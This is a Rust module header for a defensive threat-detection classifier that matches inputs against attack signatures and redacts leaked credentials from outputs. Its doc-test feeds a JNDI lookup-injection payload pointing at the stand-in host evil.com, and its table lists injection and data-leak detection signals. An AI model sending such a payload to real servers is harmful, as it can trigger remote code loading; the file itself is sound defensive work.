//! Threat detection.
//!
//! Classifies text and JSON values against a static catalog of attack
//! signatures, and scans outgoing values for leaked credentials.
//!
//! # Threat Categories
//!
//! | Category                    | Signals                                           | Severity |
//! |-----------------------------|---------------------------------------------------|----------|
//! | `SQL_INJECTION`             | select/union/insert/update/delete/drop, `--`, `/*`, `OR x=x` | High |
//! | `NOSQL_INJECTION`           | `$where`, `$ne`, `$gt`, `$lt`, `$regex`, `$in`    | High     |
//! | `XSS`                       | `<script`, `javascript:`, `on<event>=`            | High     |
//! | `COMMAND_INJECTION`         | shell metacharacters, eval/exec/system            | High     |
//! | `TEMPLATE_LOOKUP_INJECTION` | `${`, `%{`, `jndi:`, `ldap:`                      | Critical |
//! | `SENSITIVE_FIELD_ACCESS`    | password/token/secret/apiKey/hash field names     | Critical |
//! | `BULK_DATA_ACCESS`          | `select * from`, `limit` >= 100                   | Medium   |
//! | `PRIVILEGED_OPERATION`      | drop/alter/create/grant/revoke                    | High     |
//! | `DATA_LEAK`                 | credential fields, emails, card and SSN digits    | Critical for password/token, else High |
//!
//! # Detection
//!
//! Input is normalized (see [`crate::normalize`]) and lowercased before
//! matching, so homograph and fullwidth spellings hit the same signatures.
//! Each category reports at most one match per input. `DATA_LEAK` reports
//! at most one match per leak kind.
//!
//! Evidence never echoes a credential: matches inside a credential field's
//! value report `***REDACTED***`, and personal data matches report a label
//! such as `[EMAIL]`.
//!
//! # Usage
//!
//! ```
//! use inguard::security::{Classifier, ThreatCategory};
//! use serde_json::json;
//!
//! let classifier = Classifier::new().unwrap();
//!
//! let matches = classifier.classify("${jndi:ldap://evil.com/a}");
//! assert!(matches
//!     .iter()
//!     .any(|m| m.category == ThreatCategory::TemplateLookupInjection));
//!
//! let scan = classifier.scan_output(&json!({"token": "abc"}));
//! assert_eq!(scan.redacted["token"], "***REDACTED***");
//! ```

mod classifier;
mod patterns;
mod structured;

pub use classifier::{Classifier, PatternMatch, MAX_EVIDENCE_CHARS, REDACTED};
pub use patterns::{
    is_forbidden_field, CompiledRule, LeakKind, PatternCatalog, PatternRule, Severity,
    ThreatCategory, CATALOG_VERSION, FORBIDDEN_FIELDS, LOG_MARKERS,
};
pub use structured::{flatten, redact, FlatText, OutputScan};
